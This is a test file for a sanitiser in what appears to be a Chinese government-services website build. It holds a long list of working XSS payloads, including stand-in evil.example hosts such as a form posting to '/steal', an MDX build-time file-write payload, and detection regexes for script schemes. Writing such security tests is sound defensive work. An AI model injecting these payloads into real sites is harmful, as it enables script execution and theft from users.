/**
 * Raw HTML, links and MDX code written into content never reach a citizen's
 * browser as something that runs: XSS payloads in a notice, a service guide
 * and an MDX notice, built through Astro with the site's real configuration,
 * leave no script, no event handler, no script address, no foreign iframe
 * and no embedded object in the output, and MDX code never runs at build
 * time. The harmless content around them survives.
 *
 * The content checker reports these payloads as errors and `npm run build`
 * refuses them; the build here skips that check on purpose (the same way
 * `astro dev` goes on after reporting errors), so that what is tested is the
 * second line of defence: the sanitiser in the Markdown pipeline.
 */
import { spawn } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkContent } from '#lib/content/check.ts';
import { markdownProblems } from '#lib/markdown/check.ts';
import { type Doc, page, text } from '../helpers/html.ts';
import { ROOT } from '../helpers/run.ts';

const temp = mkdtempSync(join(tmpdir(), 'siliang-xss-'));
afterAll(() => rmSync(temp, { recursive: true, force: true }));
const content = join(temp, 'content');
const out = join(temp, 'out');
/** Files an MDX payload would write if its code ran during the build. */
const pwnedEsm = join(temp, 'pwned-esm');
const pwnedExpression = join(temp, 'pwned-expression');

/** Payloads, each written as its own block between two markers. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(2)</SCRIPT>',
  '<ScRiPt src="https://evil.example/x.js"></ScRiPt>',
  'inline <script>alert(3)</script> in a paragraph',
  '<scr<script>ipt>alert(4)</script>',
  '<img src=x onerror=alert(5)>',
  '<img src="x" onerror="alert(6)"/>',
  '<IMG SRC=x ONERROR=alert(7)>',
  '<svg onload=alert(8)><circle r="1"/></svg>',
  '<svg/onload=alert(9)>',
  '<a href="javascript:alert(10)">点我</a>',
  '<a href="JAVASCRIPT:alert(11)">点我</a>',
  '<a href="jav&#x09;ascript:alert(12)">点我</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(13)">点我</a>',
  '<a href="javascript&colon;alert(14)">点我</a>',
  '<a href=" javascript:alert(15)">点我</a>',
  '<a href="vbscript:msgbox(16)">点我</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNyk8L3NjcmlwdD4=">点我</a>',
  '<a href="#" onclick="alert(18)">点我</a>',
  '<p\nonmouseover\n=\n"alert(19)"\n>attributes across lines</p>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe src="javascript:alert(21)"></iframe>',
  '<iframe srcdoc="<script>alert(22)</script>"></iframe>',
  '<iframe src="https://player.bilibili.com.evil.example/"></iframe>',
  '<iframe src="http://player.bilibili.com/player.html?bvid=BV1plain"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<object data="javascript:alert(26)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/steal"><input name="id" type="text"><button formaction="javascript:alert(28)">提交</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(34)></style></mglyph></table></mtext></math>',
  '<details open ontoggle=alert(35)><summary>展开</summary>内容</details>',
  '<div style="background:url(javascript:alert(36))">styled</div>',
  '<video><source onerror="alert(37)"></video>',
  '<audio src=x onerror=alert(38)>',
  '<body onload=alert(39)>',
  '<marquee onstart=alert(40)>marquee</marquee>',
  '<template><script>alert(41)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(42)>"></noscript>',
  '<!--<img src=x onerror=alert(43)>-->',
  '<table background="javascript:alert(44)"><tr><td>x</td></tr></table>',
  '<svg><a xlink:href="javascript:alert(45)"><text x="0" y="10">x</text></a></svg>',
  '<input onfocus=alert(46) autofocus>',
  '<x-widget onclick="alert(47)">custom</x-widget>',
  '<h2 id="location" name="cookie">clobbering</h2>',
  '[Markdown 链接](javascript:alert(49))',
  '[大写链接](JaVaScRiPt:alert(50))',
  '![Markdown 图片](javascript:alert(51))',
  '<javascript:alert(52)>',
  '[引用链接][evil]\n\n[evil]: javascript:alert(53)',
  '[数据链接](data:text/html;base64,PHNjcmlwdD5hbGVydCg1NCk8L3NjcmlwdD4=)',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNTUpPjwvc3ZnPg==">',
];

/** Content that must survive sanitising. */
const HARMLESS = [
  '## 安全测试小标题',
  '',
  '| 项目 | 费用 |',
  '| --- | --: |',
  '| 工本费 | 10 元 |',
  '',
  '- 第一项',
  '- 第二项',
  '',
  '<details><summary>办理须知</summary>请带好 <abbr title="居民身份证">身份证</abbr>，按 <kbd>Enter</kbd> 提交。</details>',
  '',
  '<iframe src="https://player.bilibili.com/player.html?bvid=BV1safe" title="办事指南视频"></iframe>',
  '',
  '<iframe src="https://gongkai.ceshi.example/ditu/"></iframe>',
  '',
  '[跳到说明](#shuoming)',
  '',
  '<h3 id="shuoming">说明</h3>',
  '',
  '[咨询电话](tel:057012345678) 和 [政务网](https://zwfw.ceshi.example/)',
].join('\n');

const body = () => [HARMLESS, ...PAYLOADS.flatMap((p, i) => [`标记${i}开始`, p, `标记${i}结束`])].join('\n\n');

const MDX = `import { writeFileSync } from 'node:fs'
export const pwned = writeFileSync(${JSON.stringify(pwnedEsm)}, 'esm ran')

## MDX 小标题

<details open onToggle={() => alert(1)}><summary>展开</summary>MDX 里的 HTML</details>

{globalThis.process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(pwnedExpression)}, 'expression ran')}

<Evil onLoad={() => alert(2)} />

<a href="javascript:alert(3)" {...{ onClick: 'alert(4)' }}>MDX 链接</a>

{"字符串表达式保留"}

<script>{"alert(5)"}</script>
`;

/**
 * Builds `contentDir` into `outDir` through Astro with the project's
 * astro.config.mjs, skipping the content check (see the top of this file).
 * Takes the same lock as `npm run build`, since two Astro builds of one
 * project must not overlap.
 */
function buildWithoutCheck(contentDir: string, outDir: string): Promise<{ code: number; output: string }> {
  const script = `
    import { build } from 'astro';
    import { join } from 'node:path';
    import { withLock } from './src/node/lock.ts';
    for (const key of ['BASE_URL', 'MODE', 'DEV', 'PROD', 'SSR', 'SITE', 'ASSETS_PREFIX']) delete process.env[key];
    process.env.NODE_ENV = 'production';
    await withLock(join(process.cwd(), 'node_modules', '.astro', 'siliang-build.lock'), () =>
      build({ root: process.cwd(), outDir: ${JSON.stringify(outDir)}, logLevel: 'warn' }));
  `;
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['--input-type=module', '-e', script], {
      cwd: ROOT,
      env: { ...process.env, SILIANG_CONTENT: contentDir, SILIANG_CHECKED: contentDir, SILIANG_NOW: '2026-11-22', FORCE_COLOR: '0', NO_COLOR: '1' },
    });
    let output = '';
    child.stdout.on('data', (d: Buffer) => (output += d.toString()));
    child.stderr.on('data', (d: Buffer) => (output += d.toString()));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code: code ?? -1, output }));
  });
}

const SCRIPT_SCHEMES = /^(?:javascript|vbscript|livescript|data):/i;
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'background', 'srcset', 'srcdoc'];

/** Everything in `doc` that could run code or load a foreign document. */
function dangers(doc: Doc): string[] {
  const found: string[] = [];
  for (const el of doc.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['object', 'embed', 'base', 'applet', 'frame', 'frameset'].includes(tag)) found.push(`<${tag}>`);
    // The site's own search box is a form, outside <main>; content is inside it.
    if (['form', 'style', 'link', 'meta'].includes(tag) && el.closest('main')) found.push(`<${tag}> in main`);
    if (tag === 'meta' && el.getAttribute('http-equiv')?.toLowerCase() === 'refresh') found.push('<meta http-equiv=refresh>');
    for (const { name, value } of Array.from(el.attributes) as Array<{ name: string; value: string }>) {
      if (/^on/i.test(name)) found.push(`${tag}[${name}]`);
      // eslint-disable-next-line no-control-regex -- browsers drop these characters from a URL, so an attack hides behind them
      if (URL_ATTRIBUTES.includes(name.toLowerCase()) && SCRIPT_SCHEMES.test(value.replace(/[\u0000-\u0020]/g, ''))) found.push(`${tag}[${name}=${value}]`);
      if (name === 'style' && /url\(|expression\(|javascript:/i.test(value)) found.push(`${tag}[style=${value}]`);
    }
    if (tag === 'iframe') {
      const src = el.getAttribute('src') ?? '';
      if (!/^https:\/\/(?:player\.bilibili\.com|v\.qq\.com|gongkai\.ceshi\.example)\//.test(src)) found.push(`<iframe src=${src}>`);
      if (el.hasAttribute('srcdoc')) found.push('<iframe srcdoc>');
    }
  }
  return found;
}

/**
 * The page's scripts. Structured data (JSON-LD) restates the item's own text,
 * so it differs from the clean page's by nature: it is compared by kind here,
 * and checked on its own below for markup that could end its element.
 */
const scriptsOf = (doc: Doc) => Array.from(doc.querySelectorAll('script')).map((s) => (s.getAttribute('type') === 'application/ld+json' ? 'application/ld+json' : s.outerHTML));
const structuredData = (doc: Doc) => Array.from(doc.querySelectorAll('script[type="application/ld+json"]')).map((s) => s.textContent ?? '');

let notice: Doc;
let procedure: Doc;
let mdxNotice: Doc;
let cleanNotice: Doc;
let cleanProcedure: Doc;

beforeAll(async () => {
  cpSync(join(ROOT, 'test/fixtures/small'), content, { recursive: true });
  const noticeFile = join(content, 'notices/gonggao.md');
  const original = readFileSync(noticeFile, 'utf8');
  // The untouched notice and a copy of the untouched procedure show what the site itself puts on such pages.
  writeFileSync(join(content, 'notices/gonggao-xss.md'), `${original.trimEnd()}\n\n${body()}\n`);
  writeFileSync(join(content, 'notices/gonggao-mdx.mdx'), original.replace(/\n---\n[\s\S]*$/, `\n---\n\n${MDX}`));
  const procedureFile = join(content, 'units/chuangkou/procedures/ceshi-shixiang.md');
  const procedureText = readFileSync(procedureFile, 'utf8');
  writeFileSync(join(content, 'units/chuangkou/procedures/ceshi-xss.md'), `${procedureText.trimEnd()}\n\n${body()}\n`);
  const run = await buildWithoutCheck(content, out);
  if (run.code !== 0) throw new Error(`build failed:\n${run.output}`);
  notice = page(out, 'notices/gonggao-xss/');
  mdxNotice = page(out, 'notices/gonggao-mdx/');
  cleanNotice = page(out, 'notices/gonggao/');
  procedure = page(out, 'units/chuangkou/procedures/ceshi-xss/');
  cleanProcedure = page(out, 'units/chuangkou/procedures/ceshi-shixiang/');
});

describe('XSS payloads in Markdown, through the real build', () => {
  it('are refused by the content checker first, each payload file with errors', () => {
    const { entries } = checkContent(content);
    const errors = markdownProblems(entries, { contentDir: content, today: '2026-11-22' }).filter((p) => p.severity === 'error');
    const files = new Set(errors.map((p) => p.file));
    expect([...files].sort()).toEqual(['notices/gonggao-mdx.mdx', 'notices/gonggao-xss.md', 'units/chuangkou/procedures/ceshi-xss.md']);
    // Most payloads are errors of their own; the rest (style, form, object…) are removed with a warning.
    expect(errors.filter((p) => p.file === 'notices/gonggao-xss.md').length).toBeGreaterThanOrEqual(30);
  });

  it('has at least 30 payloads, and every one of them reached the page between its markers', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
    for (const doc of [notice, procedure]) {
      const all = text(doc.querySelector('main'));
      PAYLOADS.forEach((_, i) => {
        expect(all).toContain(`标记${i}开始`);
        expect(all).toContain(`标记${i}结束`);
      });
    }
  });

  it('leaves no script but those the site itself puts on the page', () => {
    expect(scriptsOf(notice)).toEqual(scriptsOf(cleanNotice));
    expect(scriptsOf(procedure)).toEqual(scriptsOf(cleanProcedure));
    expect(scriptsOf(mdxNotice)).toEqual(scriptsOf(cleanNotice));
    // A payload restated in structured data stays JSON text: no "<" that could close the element or open another.
    for (const doc of [notice, procedure, mdxNotice]) for (const json of structuredData(doc)) expect(json).not.toContain('<');
  });

  it('leaves no event handler, script address, foreign iframe, object, embed, form, base or refresh', () => {
    expect(dangers(notice)).toEqual([]);
    expect(dangers(procedure)).toEqual([]);
    expect(dangers(mdxNotice)).toEqual([]);
  });

  it('leaves no trace of a payload as markup in the raw HTML either', () => {
    const pages: Array<[string, string]> = [
      ['notices/gonggao-xss/index.html', 'notices/gonggao/index.html'],
      ['notices/gonggao-mdx/index.html', 'notices/gonggao/index.html'],
      ['units/chuangkou/procedures/ceshi-xss/index.html', 'units/chuangkou/procedures/ceshi-shixiang/index.html'],
    ];
    const count = (html: string, re: RegExp) => html.match(re)?.length ?? 0;
    for (const [file, clean] of pages) {
      const raw = readFileSync(join(out, file), 'utf8');
      expect(raw, file).not.toMatch(/\s(?:href|src|action|formaction|data)\s*=\s*["']?\s*(?:javascript|vbscript|data):/i);
      // Attribute values may hold any text (a title="<img …>" is text, not markup): blank them out first.
      const html = raw.replace(/="[^"]*"/g, '=""').replace(/='[^']*'/g, "=''");
      const cleanHtml = readFileSync(join(out, clean), 'utf8')
        .replace(/="[^"]*"/g, '=""')
        .replace(/='[^']*'/g, "=''");
      expect(html, file).not.toMatch(/\son[a-z]+\s*=/i);
      for (const tag of ['script', 'object', 'embed', 'base', 'form', 'style', 'meta', 'link', 'iframe']) {
        const re = new RegExp(`<${tag}[\\s>/]`, 'gi');
        // The site's own tags (its search form, its stylesheet links) are on the clean page too; iframes are checked above.
        expect(count(html, re), `${file}: <${tag}>`).toBe(tag === 'iframe' && file.includes('xss') ? 2 : count(cleanHtml, re));
      }
    }
  });

  it('keeps the harmless content: a heading, a table, a list, details, abbr, kbd and links', () => {
    for (const doc of [notice, procedure]) {
      const main = doc.querySelector('main');
      expect(text(main?.querySelector('h2#安全测试小标题'))).toBe('安全测试小标题');
      expect(Array.from(main?.querySelectorAll('table td') ?? []).map((td) => text(td))).toEqual(expect.arrayContaining(['工本费', '10 元']));
      expect(main?.querySelector('td[style]')?.getAttribute('style')).toMatch(/^text-align:\s*right/);
      expect(Array.from(main?.querySelectorAll('li') ?? []).map((li) => text(li))).toEqual(expect.arrayContaining(['第一项', '第二项']));
      expect(text(main?.querySelector('details summary'))).toBe('办理须知');
      expect(main?.querySelector('abbr')?.getAttribute('title')).toBe('居民身份证');
      expect(text(main?.querySelector('kbd'))).toBe('Enter');
      expect(main?.querySelector('a[href="tel:057012345678"]')).not.toBeNull();
      expect(main?.querySelector('a[href="https://zwfw.ceshi.example/"]')).not.toBeNull();
    }
  });

  it('keeps iframes from allowed hosts, sandboxed and titled, and removes the rest', () => {
    for (const doc of [notice, procedure]) {
      const frames = Array.from(doc.querySelectorAll('main iframe'));
      expect(frames.map((f) => f.getAttribute('src'))).toEqual(['https://player.bilibili.com/player.html?bvid=BV1safe', 'https://gongkai.ceshi.example/ditu/']);
      for (const frame of frames) {
        expect(frame.getAttribute('sandbox')).toBe('allow-scripts allow-same-origin allow-presentation allow-popups');
        expect(frame.getAttribute('title')).toBeTruthy();
      }
      expect(frames[0]?.getAttribute('title')).toBe('办事指南视频');
    }
  });

  it('prefixes ids written in HTML, so content cannot take over the page’s own ids, and keeps in-page links working', () => {
    for (const doc of [notice, procedure]) {
      const main = doc.querySelector('main');
      expect(main?.querySelector('#location')).toBeNull();
      expect(main?.querySelector('#user-content-location')).not.toBeNull();
      expect(main?.querySelector('[name="cookie"]')).toBeNull();
      expect(main?.querySelector('a[href="#user-content-shuoming"]')).not.toBeNull();
      expect(main?.querySelector('h3#user-content-shuoming')).not.toBeNull();
    }
  });

  it('runs no MDX code at build time and keeps only plain HTML and string literals from MDX', () => {
    expect(existsSync(pwnedEsm)).toBe(false);
    expect(existsSync(pwnedExpression)).toBe(false);
    const main = mdxNotice.querySelector('main');
    expect(text(main?.querySelector('h2'))).toBe('MDX 小标题');
    expect(text(main?.querySelector('details'))).toContain('MDX 里的 HTML');
    expect(main?.querySelector('details')?.hasAttribute('open')).toBe(true);
    expect(text(main)).toContain('字符串表达式保留');
    expect(text(main)).not.toContain('alert(5)');
    expect(main?.querySelector('evil')).toBeNull();
    const link = Array.from(main?.querySelectorAll('a') ?? []).find((a) => text(a) === 'MDX 链接');
    expect(link).toBeDefined();
    expect(link?.hasAttribute('href')).toBe(false);
  });
});
